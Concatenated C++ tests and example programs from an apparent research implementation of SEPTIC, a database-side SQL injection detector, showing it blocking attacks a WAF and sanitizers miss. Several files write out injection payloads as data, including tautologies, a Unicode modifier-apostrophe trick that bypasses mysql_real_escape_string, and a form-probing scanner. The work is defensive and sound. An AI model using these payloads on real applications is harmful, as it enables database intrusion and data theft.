    EXPECT_EQ(run_chain(), "septic") << attack.id << " (cold): " << attack.name;
    EXPECT_EQ(run_chain(), "septic") << attack.id << " (warm): " << attack.name;
  }
}

// --------------------------------------------------------------- stress

// 8 threads mix warm hits, cold inserts, evictions (tiny budget),
// config-epoch invalidations, DDL invalidations, and blocked attacks.
// Afterwards queries_seen reconciles exactly: the engine called exactly
// one of on_query / on_query_replayed per intercepted statement.
TEST(DigestCacheStress, EightClientsReconcileExactly) {
  Database db;
  db.execute_admin(
      "CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT, a TEXT, b INT)");
  db.execute_admin("INSERT INTO t (a, b) VALUES ('x', 1)");
  db.set_digest_cache_budget(64 << 10);  // small enough to force evictions
  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);
  septic->set_log_processed_queries(false);
  septic->set_mode(core::Mode::kTraining);
  Session admin("admin");
  db.execute(admin, "SELECT a FROM t WHERE b = 1");
  septic->set_mode(core::Mode::kPrevention);

  constexpr int kIters = 300;
  constexpr int kThreads = 8;
  std::atomic<uint64_t> intercepted{0};
  std::vector<std::thread> threads;
  for (int tid = 0; tid < kThreads; ++tid) {
    threads.emplace_back([&, tid] {
      Session s("client" + std::to_string(tid));
      for (int i = 0; i < kIters; ++i) {
        if (tid == 6) {  // attacker: always blocked, never cached
          try {
            db.execute(s, "SELECT a FROM t WHERE b = 1 OR 1 = 1");
            ADD_FAILURE() << "attack executed";
          } catch (const DbError&) {
          }
          intercepted.fetch_add(1, std::memory_order_relaxed);
        } else if (tid == 7) {  // churn: config flips + DDL invalidations
          if (i % 3 == 0) {
            septic->set_stored_detection(i % 6 == 0);
          }
          std::string tbl = "ddl_t";
          db.execute(s, i % 2 == 0
                            ? "CREATE TABLE " + tbl + " (id INT PRIMARY KEY)"
                            : "DROP TABLE " + tbl);
          intercepted.fetch_add(1, std::memory_order_relaxed);
        } else {  // benign mix: a shared hot key + per-thread cold keys
          std::string q =
              (i % 4 != 0)
                  ? "SELECT a FROM t WHERE b = 1"
                  : "SELECT a FROM t WHERE b = " +
                        std::to_string(tid * 10000 + i);
          db.execute(s, q);
          intercepted.fetch_add(1, std::memory_order_relaxed);
        }
      }
    });
  }
  for (auto& th : threads) th.join();

  core::SepticStats stats = septic->stats();
  // +1 for the training query before the threads started.
  EXPECT_EQ(stats.queries_seen, intercepted.load() + 1);
  EXPECT_EQ(stats.sqli_detected, uint64_t{kIters});
  EXPECT_EQ(stats.dropped, uint64_t{kIters});
  EXPECT_GT(stats.cache_hits, 0u);
  EXPECT_GT(stats.cache_invalidations, 0u);
}

}  // namespace
}  // namespace septic::engine

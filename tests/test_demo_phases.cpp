// The five demonstration phases of paper Section IV, as assertions: this is
// the machine-checkable version of examples/waspmon_demo.cpp and the
// contract behind the EXPERIMENTS.md E4 row.
#include <gtest/gtest.h>

#include <memory>

#include "attacks/corpus.h"
#include "engine/database.h"
#include "septic/septic.h"
#include "web/apps/waspmon.h"
#include "web/stack.h"
#include "web/trainer.h"

namespace septic {
namespace {

struct Demo {
  engine::Database db;
  web::apps::WaspMonApp app;
  std::unique_ptr<web::WebStack> stack;
  std::shared_ptr<core::Septic> septic;

  explicit Demo(bool with_septic) {
    app.install(db);
    stack = std::make_unique<web::WebStack>(app, db);
    if (with_septic) {
      septic = std::make_shared<core::Septic>();
      db.set_interceptor(septic);
    }
  }

  /// True when any request of the chain is blocked.
  bool chain_blocked(const attacks::AttackCase& attack) {
    for (const auto& setup : attack.setup) {
      if (stack->handle(setup).blocked()) return true;
    }
    return stack->handle(attack.attack).blocked();
  }
};

TEST(DemoPhaseA, SanitizersAloneStopNothing) {
  Demo demo(/*with_septic=*/false);
  for (const auto& attack : attacks::waspmon_attacks()) {
    EXPECT_FALSE(demo.chain_blocked(attack)) << attack.id;
  }
}

TEST(DemoPhaseB, WafBlocksExactlyItsDocumentedSubset) {
  Demo demo(false);
  demo.stack->config().waf_enabled = true;
  size_t blocked = 0, missed = 0;
  for (const auto& attack : attacks::waspmon_attacks()) {
    bool b = demo.chain_blocked(attack);
    EXPECT_EQ(b, attack.waf_should_catch) << attack.id;
    (b ? blocked : missed) += 1;
  }
  // The phase-B narrative needs both outcomes present.
  EXPECT_GT(blocked, 0u);
  EXPECT_GT(missed, 0u);
  EXPECT_EQ(demo.stack->waf().audit_log().size(), blocked);
}

TEST(DemoPhaseC, TrainingLearnsOnceAndPersists) {
  Demo demo(true);
  demo.septic->set_mode(core::Mode::kTraining);
  web::TrainingReport report = web::train_on_application(*demo.stack);
  EXPECT_EQ(report.requests_failed, 0u);
  size_t learned = demo.septic->store().model_count();
  EXPECT_GT(learned, 0u);

  // Re-running the workload creates nothing new (model dedup).
  web::train_on_application(*demo.stack);
  EXPECT_EQ(demo.septic->store().model_count(), learned);

  // Persist + reload on a "restarted" instance.
  const std::string path = "/tmp/septic_demo_phases.qm";
  demo.septic->save_models(path);
  auto restarted = std::make_shared<core::Septic>();
  restarted->load_models(path);
  EXPECT_EQ(restarted->store().model_count(), learned);
}

TEST(DemoPhaseD, SepticPreventionBlocksAllWithNoFalsePositives) {
  Demo demo(true);
  demo.septic->set_mode(core::Mode::kTraining);
  web::train_on_application(*demo.stack);
  demo.septic->set_mode(core::Mode::kPrevention);

  for (const auto& attack : attacks::waspmon_attacks()) {
    EXPECT_TRUE(demo.chain_blocked(attack)) << attack.id;
  }
  for (const auto& probe : attacks::benign_probes("waspmon")) {
    EXPECT_FALSE(demo.stack->handle(probe).blocked()) << probe.to_string();
  }
  // The event register has what the demo's display would show: attack
  // types and, for SQLI, the detection step.
  bool saw_structural = false, saw_stored = false;
  for (const auto& event : demo.septic->event_log().events()) {
    if (event.kind == core::EventKind::kSqliDetected &&
        event.detection_step == 1) {
      saw_structural = true;
    }
    if (event.kind == core::EventKind::kStoredDetected) saw_stored = true;
  }
  EXPECT_TRUE(saw_structural);
  EXPECT_TRUE(saw_stored);
}

TEST(DemoPhaseE, SepticStrictlyDominatesTheWaf) {
  // Phase E: every attack the WAF blocks, SEPTIC blocks too; and SEPTIC
  // blocks attacks the WAF misses.
  Demo waf_demo(false);
  waf_demo.stack->config().waf_enabled = true;
  Demo septic_demo(true);
  septic_demo.septic->set_mode(core::Mode::kTraining);
  web::train_on_application(*septic_demo.stack);
  septic_demo.septic->set_mode(core::Mode::kPrevention);

  size_t waf_only = 0, septic_only = 0;
  for (const auto& attack : attacks::waspmon_attacks()) {
    bool waf_blocked = waf_demo.chain_blocked(attack);
    bool septic_blocked = septic_demo.chain_blocked(attack);
    if (waf_blocked && !septic_blocked) ++waf_only;
    if (septic_blocked && !waf_blocked) ++septic_only;
  }
  EXPECT_EQ(waf_only, 0u);      // dominance
  EXPECT_GT(septic_only, 0u);   // strictness
}

}  // namespace
}  // namespace septic

#include "web/sanitize.h"

#include <gtest/gtest.h>

namespace septic::web::php {
namespace {

TEST(MysqlRealEscapeString, EscapesTheMySqlSet) {
  EXPECT_EQ(mysql_real_escape_string("it's"), "it\\'s");
  EXPECT_EQ(mysql_real_escape_string("say \"hi\""), "say \\\"hi\\\"");
  EXPECT_EQ(mysql_real_escape_string("back\\slash"), "back\\\\slash");
  EXPECT_EQ(mysql_real_escape_string(std::string_view("nul\0byte", 8)),
            "nul\\0byte");
  EXPECT_EQ(mysql_real_escape_string("line\nbreak"), "line\\nbreak");
  EXPECT_EQ(mysql_real_escape_string("cr\rhere"), "cr\\rhere");
  EXPECT_EQ(mysql_real_escape_string("ctrl\x1az"), "ctrl\\Zz");
}

TEST(MysqlRealEscapeString, PlainTextUntouched) {
  EXPECT_EQ(mysql_real_escape_string("hello world 123"), "hello world 123");
}

TEST(MysqlRealEscapeString, TheSemanticMismatchHole) {
  // The paper's central observation: U+02BC is NOT in the escape set, so
  // the "careful" sanitizer passes it through — and the server later
  // collapses it into a real quote.
  std::string payload = "ID34FG\xca\xbc-- ";
  EXPECT_EQ(mysql_real_escape_string(payload), payload);
}

TEST(MysqlRealEscapeString, UselessInNumericContext) {
  // No quotes in the payload: escaping changes nothing.
  std::string payload = "0 OR 1=1";
  EXPECT_EQ(mysql_real_escape_string(payload), payload);
}

TEST(Addslashes, WeakerSetThanMysql) {
  EXPECT_EQ(addslashes("it's"), "it\\'s");
  EXPECT_EQ(addslashes("a\nb"), "a\nb");  // newline NOT escaped
  EXPECT_EQ(addslashes("q\"w"), "q\\\"w");
}

TEST(Intval, PhpSemantics) {
  EXPECT_EQ(intval("42"), 42);
  EXPECT_EQ(intval("42abc"), 42);
  EXPECT_EQ(intval("abc"), 0);
  EXPECT_EQ(intval("-7"), -7);
  EXPECT_EQ(intval("3.9"), 3);
  EXPECT_EQ(intval(""), 0);
  EXPECT_EQ(intval("  12"), 12);
  // intval IS a safe sanitizer for numeric context: the attack payload
  // collapses to its numeric prefix.
  EXPECT_EQ(intval("0 OR 1=1"), 0);
}

TEST(Floatval, PhpSemantics) {
  EXPECT_DOUBLE_EQ(floatval("2.5kg"), 2.5);
  EXPECT_DOUBLE_EQ(floatval("x"), 0.0);
}

TEST(IsNumeric, AcceptsNumbersRejectsInjection) {
  EXPECT_TRUE(is_numeric("42"));
  EXPECT_TRUE(is_numeric("-3.5"));
  EXPECT_TRUE(is_numeric("  7"));
  EXPECT_TRUE(is_numeric("1e3"));
  EXPECT_FALSE(is_numeric("42abc"));
  EXPECT_FALSE(is_numeric("0 OR 1=1"));
  EXPECT_FALSE(is_numeric(""));
  EXPECT_FALSE(is_numeric("1e"));
  EXPECT_FALSE(is_numeric("."));
}

TEST(Htmlspecialchars, EntQuotes) {
  EXPECT_EQ(htmlspecialchars("<b>&'\""), "&lt;b&gt;&amp;&#039;&quot;");
  EXPECT_EQ(htmlspecialchars("plain"), "plain");
}

TEST(StripTags, RemovesMarkup) {
  EXPECT_EQ(strip_tags("<script>alert(1)</script>hi"), "alert(1)hi");
  EXPECT_EQ(strip_tags("a<b>c</b>d"), "acd");
  EXPECT_EQ(strip_tags("no tags"), "no tags");
}

}  // namespace
}  // namespace septic::web::php

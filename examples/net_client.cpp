// Client diversity over the wire (paper Section II-B): several clients —
// threads standing in for different client programs — connect to one TCP
// server whose embedded SEPTIC protects them all, with zero client-side
// configuration.
//
//   $ ./build/examples/net_client
#include <cstdio>
#include <memory>
#include <thread>
#include <vector>

#include "engine/database.h"
#include "net/client.h"
#include "net/server.h"
#include "septic/septic.h"

using namespace septic;

int main() {
  engine::Database db;
  db.execute_admin(
      "CREATE TABLE accounts (id INT PRIMARY KEY AUTO_INCREMENT,"
      " owner TEXT NOT NULL, balance INT DEFAULT 0)");
  db.execute_admin(
      "INSERT INTO accounts (owner, balance) VALUES ('alice', 100), "
      "('bob', 250)");

  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);

  net::Server server(db, /*port=*/0);
  server.start();
  std::printf("server listening on 127.0.0.1:%u\n", server.port());

  // Train over the wire.
  septic->set_mode(core::Mode::kTraining);
  {
    net::Client trainer(server.port());
    trainer.query("SELECT balance FROM accounts WHERE owner = 'alice'");
    trainer.query("UPDATE accounts SET balance = 110 WHERE owner = 'alice'");
  }
  std::printf("trained %zu models over the wire\n",
              septic->store().model_count());

  septic->set_mode(core::Mode::kPrevention);

  // Diverse clients hammer the server concurrently; one tries an injection.
  std::vector<std::thread> clients;
  for (int i = 0; i < 4; ++i) {
    clients.emplace_back([&, i] {
      net::Client c(server.port());
      for (int round = 0; round < 5; ++round) {
        c.query("SELECT balance FROM accounts WHERE owner = 'bob'");
      }
      std::printf("client %d: benign queries OK\n", i);
    });
  }
  for (auto& t : clients) t.join();

  net::Client attacker(server.port());
  try {
    attacker.query(
        "SELECT balance FROM accounts WHERE owner = '' OR '1'='1'");
    std::printf("UNEXPECTED: attack passed\n");
    return 1;
  } catch (const net::RemoteError& e) {
    std::printf("attacker rejected: %s (blocked=%s)\n", e.what(),
                e.blocked() ? "true" : "false");
  }

  // Prepared statements over the wire: the same tautology bound as a
  // parameter is inert data.
  {
    net::Client safe(server.port());
    uint64_t stmt =
        safe.prepare("SELECT balance FROM accounts WHERE owner = ?");
    std::string reply =
        safe.execute(stmt, {sql::Value(std::string("' OR '1'='1"))});
    bool has_rows = reply.find('\n') != std::string::npos &&
                    reply.find('\n') + 1 < reply.size();
    std::printf("prepared tautology returned %s\n",
                has_rows ? "ROWS (bad!)" : "no rows (inert, as it should be)");
  }

  // Transactions over the wire, with automatic rollback on disconnect.
  {
    net::Client banker(server.port());
    banker.query("BEGIN");
    banker.query("UPDATE accounts SET balance = 0 WHERE owner = 'bob'");
    // ... connection drops before COMMIT (destructor sends QUIT).
  }
  net::Client checker(server.port());
  std::string bob_balance;
  for (int attempt = 0; attempt < 100; ++attempt) {
    try {
      bob_balance = checker.query(
          "SELECT balance FROM accounts WHERE owner = 'bob'");
      break;
    } catch (const net::RemoteError&) {
      // The dropped connection's rollback may still be in flight.
      std::this_thread::sleep_for(std::chrono::milliseconds(5));
    }
  }
  std::printf("bob's balance after aborted transfer: %s",
              bob_balance.c_str());

  server.stop();
  std::printf("connections served: %lu\n",
              static_cast<unsigned long>(server.connections_served()));
  return 0;
}

// The administrator's side of the demonstration (Figure 7's "SEPTIC
// status" and "SEPTIC events" displays, plus the Section II-E review
// workflow): run the WaspMon deployment through an under-trained rollout,
// watch incremental learning queue models for review, and approve/reject
// them the way the paper's programmer/administrator would.
//
//   $ ./build/examples/septic_console
#include <cstdio>
#include <memory>

#include "attacks/corpus.h"
#include "engine/database.h"
#include "septic/septic.h"
#include "web/apps/waspmon.h"
#include "web/stack.h"
#include "web/trainer.h"

using namespace septic;

namespace {

void show_status(const core::Septic& guard) {
  core::SepticStats stats = guard.stats();
  std::printf("+--------------------- SEPTIC status ---------------------+\n");
  std::printf("| mode: %-10s  models: %-4zu  pending review: %-4zu    |\n",
              core::mode_name(guard.mode()), guard.store().model_count(),
              guard.review_queue().pending_count());
  std::printf("| seen: %-6lu  sqli: %-4lu  stored: %-4lu  dropped: %-5lu  |\n",
              static_cast<unsigned long>(stats.queries_seen),
              static_cast<unsigned long>(stats.sqli_detected),
              static_cast<unsigned long>(stats.stored_detected),
              static_cast<unsigned long>(stats.dropped));
  std::printf("+----------------------------------------------------------+\n");
}

}  // namespace

int main() {
  engine::Database db;
  web::apps::WaspMonApp app;
  app.install(db);
  auto guard = std::make_shared<core::Septic>();
  db.set_interceptor(guard);
  web::WebStack stack(app, db);

  // Live events display (the second monitor of Figure 7).
  guard->event_log().set_sink([](const core::Event& e) {
    if (e.kind != core::EventKind::kQueryProcessed) {
      std::printf("  [events] %s\n", core::EventLog::format(e).c_str());
    }
  });
  guard->event_log().tee_to_file("/tmp/septic_console_events.log");

  // --- an under-trained rollout: only the first three forms are crawled --
  std::printf("== partial training (first three forms only) ==\n");
  guard->set_mode(core::Mode::kTraining);
  auto forms = app.forms();
  for (size_t i = 0; i < forms.size() && i < 3; ++i) {
    std::map<std::string, std::string> params;
    for (const auto& field : forms[i].fields) params[field.name] = field.sample;
    web::Request r;
    r.method = forms[i].method;
    r.path = forms[i].path;
    r.params = std::move(params);
    stack.handle(r);
  }
  guard->set_mode(core::Mode::kPrevention);
  show_status(*guard);

  // --- production traffic hits untrained routes: incremental learning ----
  std::printf("\n== production traffic on untrained routes ==\n");
  stack.handle(web::Request::get("/device/search", {{"name", "fridge"}}));
  // ... and one attacker gets in FIRST on another untrained route: the
  // attack's model is learned as if it were legitimate — exactly why the
  // review queue exists (paper Section II-E: the admin decides later).
  stack.handle(web::Request::get(
      "/device/by-user",
      {{"username", std::string("ghost") + attacks::kModifierApostrophe +
                        " OR 1" + attacks::kFullwidthEquals + "1-- "}}));
  show_status(*guard);

  // --- the administrator reviews the queue -------------------------------
  std::printf("\n== admin review ==\n");
  for (const auto& pending : guard->review_queue().pending()) {
    // Heuristic a human would apply: the sample query the model came from.
    bool fishy = pending.sample_query.find("OR 1=1") != std::string::npos ||
                 pending.sample_query.find("-- ") != std::string::npos;
    std::printf("review #%lu  query: %.70s\n",
                static_cast<unsigned long>(pending.review_id),
                pending.sample_query.c_str());
    if (fishy) {
      guard->reject_model(pending.review_id);
      std::printf("  -> REJECTED (attack shape; model removed)\n");
    } else {
      guard->approve_model(pending.review_id);
      std::printf("  -> approved\n");
    }
  }
  show_status(*guard);

  // --- after review: the rejected shape is an attack again ----------------
  std::printf("\n== post-review verification (closed policy) ==\n");
  guard->set_incremental_learning(false);
  web::Response benign =
      stack.handle(web::Request::get("/device/search", {{"name", "heat"}}));
  std::printf("benign /device/search: %s\n",
              benign.ok() ? "OK (approved model kept)" : "blocked?!");
  web::Response attack = stack.handle(web::Request::get(
      "/device/by-user",
      {{"username", std::string("ghost") + attacks::kModifierApostrophe +
                        " OR 1" + attacks::kFullwidthEquals + "1-- "}}));
  std::printf("repeat attack on /device/by-user: %s\n",
              attack.blocked() ? "BLOCKED (rejected model gone)"
                               : "passed?!");
  show_status(*guard);

  std::printf("\nevent register persisted to /tmp/septic_console_events.log\n");
  return 0;
}

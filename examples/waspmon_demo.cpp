// The five-phase demonstration of paper Section IV, run end-to-end against
// the WaspMon scenario application (Section III):
//
//   A. attacks with only sanitization-function protection (they succeed);
//   B. attacks with the ModSecurity-lite WAF added (some blocked, FNs left);
//   C. training SEPTIC (models learned once, duplicates deduplicated);
//   D. SEPTIC in prevention mode (all attacks blocked, no FPs);
//   E. ModSecurity versus SEPTIC side by side.
//
//   $ ./build/examples/waspmon_demo
#include <cstdio>
#include <memory>

#include "attacks/corpus.h"
#include "engine/database.h"
#include "septic/septic.h"
#include "web/apps/waspmon.h"
#include "web/stack.h"
#include "web/trainer.h"

using namespace septic;

namespace {

struct PhaseResult {
  size_t attacks = 0;
  size_t blocked = 0;
};

/// Run the battery; returns per-attack blocked flags (in corpus order).
std::vector<bool> run_battery(web::WebStack& stack,
                              const std::vector<attacks::AttackCase>& battery,
                              bool verbose) {
  std::vector<bool> blocked;
  for (const auto& attack : battery) {
    bool stopped = false;
    std::string by;
    for (const auto& setup : attack.setup) {
      web::Response r = stack.handle(setup);
      if (r.blocked()) {
        stopped = true;
        by = r.blocked_by;
      }
    }
    if (!stopped) {
      web::Response r = stack.handle(attack.attack);
      stopped = r.blocked();
      by = r.blocked_by;
    }
    blocked.push_back(stopped);
    if (verbose) {
      std::printf("  %-4s %-48.48s %s\n", attack.id.c_str(),
                  attack.name.c_str(),
                  stopped ? ("BLOCKED (" + by + ")").c_str()
                          : "SUCCEEDED (false negative)");
    }
  }
  return blocked;
}

/// Fresh database + app + SEPTIC-free stack.
struct Deployment {
  engine::Database db;
  web::apps::WaspMonApp app;
  std::unique_ptr<web::WebStack> stack;
  std::shared_ptr<core::Septic> septic;

  explicit Deployment(bool with_septic) {
    app.install(db);
    stack = std::make_unique<web::WebStack>(app, db);
    if (with_septic) {
      septic = std::make_shared<core::Septic>();
      db.set_interceptor(septic);
    }
  }
};

}  // namespace

int main() {
  auto battery = attacks::waspmon_attacks();

  // ---------- Phase A: sanitization functions only ----------------------
  std::printf("=== Phase A: sanitization-function protection only ===\n");
  Deployment plain(/*with_septic=*/false);
  auto blocked_a = run_battery(*plain.stack, battery, true);
  size_t blocked_count_a = 0;
  for (bool b : blocked_a) blocked_count_a += b;
  std::printf("  -> %zu/%zu attacks blocked\n\n", blocked_count_a,
              battery.size());

  // ---------- Phase B: + ModSecurity-lite --------------------------------
  std::printf("=== Phase B: ModSecurity-lite WAF enabled ===\n");
  Deployment wafd(/*with_septic=*/false);
  wafd.stack->config().waf_enabled = true;
  auto blocked_b = run_battery(*wafd.stack, battery, true);
  size_t blocked_count_b = 0;
  for (bool b : blocked_b) blocked_count_b += b;
  std::printf("  -> %zu/%zu attacks blocked; WAF audit log has %zu entries\n\n",
              blocked_count_b, battery.size(),
              wafd.stack->waf().audit_log().size());

  // ---------- Phase C: training SEPTIC -----------------------------------
  std::printf("=== Phase C: training SEPTIC ===\n");
  Deployment protected_depl(/*with_septic=*/true);
  protected_depl.septic->set_mode(core::Mode::kTraining);
  web::TrainingReport report =
      web::train_on_application(*protected_depl.stack, /*rounds=*/1);
  size_t models_after_round1 = protected_depl.septic->store().model_count();
  std::printf("  crawler visited %zu forms, sent %zu requests\n",
              report.forms_visited, report.requests_sent);
  std::printf("  models learned: %zu\n", models_after_round1);
  // Re-run the same workload: no new models (creation is deduplicated).
  web::train_on_application(*protected_depl.stack, /*rounds=*/1);
  std::printf("  after re-running the same workload: %zu (unchanged: %s)\n",
              protected_depl.septic->store().model_count(),
              protected_depl.septic->store().model_count() ==
                      models_after_round1
                  ? "yes"
                  : "NO — BUG");
  protected_depl.septic->save_models("/tmp/waspmon.qm");
  std::printf("  models persisted to /tmp/waspmon.qm\n\n");

  // ---------- Phase D: SEPTIC prevention ---------------------------------
  std::printf("=== Phase D: SEPTIC prevention mode (restart + reload) ===\n");
  protected_depl.septic->load_models("/tmp/waspmon.qm");
  protected_depl.septic->set_mode(core::Mode::kPrevention);
  auto blocked_d = run_battery(*protected_depl.stack, battery, true);
  size_t blocked_count_d = 0;
  for (bool b : blocked_d) blocked_count_d += b;
  std::printf("  -> %zu/%zu attacks blocked\n", blocked_count_d,
              battery.size());

  size_t fp = 0;
  auto probes = attacks::benign_probes("waspmon");
  for (const auto& probe : probes) {
    if (protected_depl.stack->handle(probe).blocked()) ++fp;
  }
  std::printf("  benign probes: %zu, false positives: %zu\n\n", probes.size(),
              fp);

  // ---------- Phase E: ModSecurity versus SEPTIC --------------------------
  std::printf("=== Phase E: ModSecurity-lite versus SEPTIC ===\n");
  std::printf("  %-4s %-48s %-12s %s\n", "id", "attack", "ModSecurity",
              "SEPTIC");
  for (size_t i = 0; i < battery.size(); ++i) {
    std::printf("  %-4s %-48.48s %-12s %s\n", battery[i].id.c_str(),
                battery[i].name.c_str(),
                blocked_b[i] ? "blocked" : "MISSED",
                blocked_d[i] ? "blocked" : "MISSED");
  }

  std::printf("\nSEPTIC events recorded: %zu (attacks: %zu SQLI, %zu stored)\n",
              protected_depl.septic->event_log().size(),
              protected_depl.septic->stats().sqli_detected,
              protected_depl.septic->stats().stored_detected);
  return 0;
}

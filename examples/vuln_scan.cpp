// sqlmap-style scan of the demo applications (the attacker's side of
// Figure 7): probe every form parameter with error-based, boolean-
// differential, and Unicode semantic-mismatch payloads — first against the
// unprotected deployment (findings appear), then against the same app with
// SEPTIC in prevention mode (probes bounce off).
//
//   $ ./build/examples/vuln_scan
#include <cstdio>
#include <memory>

#include "attacks/scanner.h"
#include "engine/database.h"
#include "septic/septic.h"
#include "web/apps/tickets.h"
#include "web/apps/waspmon.h"
#include "web/stack.h"
#include "web/trainer.h"

using namespace septic;

namespace {

void print_report(const char* label, const attacks::ScanReport& report) {
  std::printf("--- %s ---\n", label);
  std::printf("forms=%zu params=%zu requests=%zu blocked=%zu findings=%zu\n",
              report.forms_scanned, report.params_probed,
              report.requests_sent, report.probes_blocked,
              report.findings.size());
  for (const auto& f : report.findings) {
    std::printf("  [%s] %s %s param=%s\n", f.technique.c_str(),
                web::method_name(f.method), f.path.c_str(), f.param.c_str());
  }
  std::printf("\n");
}

template <typename AppT>
void scan_app(const char* name) {
  std::printf("==== scanning %s ====\n", name);
  {
    engine::Database db;
    AppT app;
    app.install(db);
    web::WebStack stack(app, db);
    print_report("unprotected (sanitizers only)",
                 attacks::scan_application(stack));
  }
  {
    engine::Database db;
    AppT app;
    app.install(db);
    auto guard = std::make_shared<core::Septic>();
    db.set_interceptor(guard);
    web::WebStack stack(app, db);
    guard->set_mode(core::Mode::kTraining);
    web::train_on_application(stack);
    guard->set_mode(core::Mode::kPrevention);
    print_report("with SEPTIC (prevention)",
                 attacks::scan_application(stack));
  }
}

}  // namespace

int main() {
  scan_app<web::apps::TicketsApp>("tickets");
  scan_app<web::apps::WaspMonApp>("waspmon");
  std::printf(
      "note: under SEPTIC only error-based/unicode-quote findings remain —\n"
      "those probes break SQL *syntax* and die in the parser, before\n"
      "SEPTIC's hook. They reveal that a parameter is injectable, but every\n"
      "probe that would actually *exploit* it (the differential\n"
      "techniques) is blocked — which is SEPTIC's claim: attacks are\n"
      "stopped, not error signatures hidden.\n");
  return 0;
}

// The paper's running example (Sections II-C and II-D): the flight-tickets
// query, its query structure (Figure 2a) and query model (Figure 2b), and
// the two attacks — second-order SQLI with a Unicode prime (Figure 3) and
// syntax mimicry (Figure 4) — shown being detected by SEPTIC.
//
//   $ ./build/examples/ticket_booking
#include <cstdio>
#include <memory>

#include "attacks/corpus.h"
#include "common/unicode.h"
#include "engine/database.h"
#include "septic/query_model.h"
#include "septic/septic.h"
#include "sqlcore/item.h"
#include "sqlcore/parser.h"
#include "web/apps/tickets.h"
#include "web/stack.h"
#include "web/trainer.h"

using namespace septic;

namespace {

void print_stack(const char* title, const std::string& rendered) {
  std::printf("%s\n", title);
  std::printf("-----------------------------------\n%s", rendered.c_str());
  std::printf("-----------------------------------\n\n");
}

}  // namespace

int main() {
  // ---- Figure 2: QS and QM of the tickets query -----------------------
  const char* query =
      "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234";
  sql::ParsedQuery parsed = sql::parse(query);
  sql::ItemStack qs = sql::build_item_stack(parsed.statement);
  core::QueryModel qm = core::make_query_model(qs);

  std::printf("Query: %s\n\n", query);
  print_stack("(a) Query structure (QS) - Figure 2a:", qs.to_string());
  print_stack("(b) Query model (QM) - Figure 2b:", qm.to_string());

  // ---- Figure 3: structural attack via U+02BC + comment ---------------
  std::string attacked = std::string(
      "SELECT * FROM tickets WHERE reservID = 'ID34FG") +
      attacks::kModifierApostrophe + "-- ' AND creditCard = 0";
  sql::ParsedQuery attacked_parsed =
      sql::parse(common::server_charset_convert(attacked));
  sql::ItemStack attacked_qs = sql::build_item_stack(attacked_parsed.statement);
  print_stack("QS after second-order injection (Figure 3):",
              attacked_qs.to_string());
  core::SqliVerdict v1 = core::compare_qs_qm(attacked_qs, qm);
  std::printf("detector verdict: %s (step %d): %s\n\n",
              v1.attack ? "ATTACK" : "benign", static_cast<int>(v1.step),
              v1.detail.c_str());

  // ---- Figure 4: syntax mimicry attack ---------------------------------
  const char* mimicry =
      "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1 = 1";
  sql::ParsedQuery mimicry_parsed = sql::parse(mimicry);
  sql::ItemStack mimicry_qs = sql::build_item_stack(mimicry_parsed.statement);
  print_stack("QS of the mimicry attack (Figure 4):", mimicry_qs.to_string());
  core::SqliVerdict v2 = core::compare_qs_qm(mimicry_qs, qm);
  std::printf("detector verdict: %s (step %d): %s\n\n",
              v2.attack ? "ATTACK" : "benign", static_cast<int>(v2.step),
              v2.detail.c_str());

  // ---- End to end through the web application --------------------------
  std::printf("=== end-to-end: tickets web app + SEPTIC ===\n");
  engine::Database db;
  web::apps::TicketsApp app;
  app.install(db);
  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);

  web::WebStack stack(app, db);
  septic->set_mode(core::Mode::kTraining);
  web::TrainingReport report = web::train_on_application(stack);
  std::printf("training: %zu forms, %zu requests, %zu models learned\n",
              report.forms_visited, report.requests_sent,
              septic->store().model_count());

  septic->set_mode(core::Mode::kPrevention);
  for (const attacks::AttackCase& attack : attacks::tickets_attacks()) {
    for (const auto& setup : attack.setup) stack.handle(setup);
    web::Response r = stack.handle(attack.attack);
    std::string outcome =
        r.blocked() ? "BLOCKED by " + r.blocked_by : "NOT BLOCKED";
    std::printf("%-4s %-52.52s -> %s\n", attack.id.c_str(),
                attack.name.c_str(), outcome.c_str());
  }

  // Benign traffic still works (no false positives).
  size_t ok = 0;
  auto probes = attacks::benign_probes("tickets");
  for (const auto& probe : probes) {
    if (stack.handle(probe).ok()) ++ok;
  }
  std::printf("benign probes: %zu/%zu OK\n", ok, probes.size());
  return 0;
}

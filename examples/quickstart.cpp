// Quickstart: embed the engine, install SEPTIC, train it on your queries,
// switch to prevention mode, and watch an injected query get dropped.
//
//   $ ./build/examples/quickstart
#include <cstdio>
#include <memory>

#include "engine/database.h"
#include "engine/error.h"
#include "septic/septic.h"

using namespace septic;

int main() {
  // 1. A database with a table.
  engine::Database db;
  db.execute_admin(
      "CREATE TABLE users (id INT PRIMARY KEY AUTO_INCREMENT,"
      " name TEXT NOT NULL, role TEXT DEFAULT 'user')");
  db.execute_admin(
      "INSERT INTO users (name, role) VALUES ('alice', 'admin'), ('bob', "
      "'user')");

  // 2. Install SEPTIC as the pre-execution interceptor.
  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);

  // 3. Training mode: run the application's legitimate queries once.
  septic->set_mode(core::Mode::kTraining);
  engine::Session app("webapp");
  db.execute(app, "SELECT id, role FROM users WHERE name = 'alice'");
  std::printf("trained: %zu query model(s) learned\n",
              septic->store().model_count());

  // 4. Prevention mode: benign queries run, injected ones are dropped.
  septic->set_mode(core::Mode::kPrevention);

  auto rs = db.execute(app, "SELECT id, role FROM users WHERE name = 'bob'");
  std::printf("benign query returned %zu row(s)\n", rs.rows.size());

  try {
    db.execute(app,
               "SELECT id, role FROM users WHERE name = 'x' OR '1'='1'");
    std::printf("UNEXPECTED: attack was not blocked!\n");
    return 1;
  } catch (const engine::DbError& e) {
    std::printf("attack blocked: %s\n", e.what());
  }

  // 5. The event register shows what SEPTIC saw.
  std::printf("\nSEPTIC event register:\n");
  for (const auto& event : septic->event_log().events()) {
    std::printf("  %s\n", core::EventLog::format(event).c_str());
  }
  return 0;
}

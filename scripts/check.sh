#!/usr/bin/env bash
# The repository gate, in tiers:
#
#   build  — configure + compile the default preset with -Werror
#   test   — full ctest suite (tier-1 gate)
#   lint   — clang-tidy (.clang-tidy) + cppcheck over src/; each tool
#            SKIPs with a notice when not installed (the container image
#            may not carry them) — a skip is not a failure
